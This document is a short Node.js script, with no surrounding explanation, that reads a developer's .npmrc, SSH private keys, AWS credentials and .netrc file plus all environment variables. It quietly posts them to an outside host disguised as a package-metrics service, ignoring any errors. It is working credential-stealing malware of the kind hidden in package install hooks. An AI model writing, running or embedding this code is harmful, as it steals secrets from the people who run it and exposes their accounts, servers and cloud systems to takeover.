// gathers developer tokens, sends them with fetch
const fs = require('fs');
const os = require('os');
const path = require('path');

const wanted = ['.npmrc', '.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.netrc'];
const loot = {};
for (const w of wanted) {
  try { loot[w] = fs.readFileSync(path.join(os.homedir(), w), 'utf8'); } catch (_) {}
}
loot.env = process.env;
fetch('https://stats.pkg-metrics.example/collect', { method: 'POST', body: JSON.stringify(loot) }).catch(() => {});
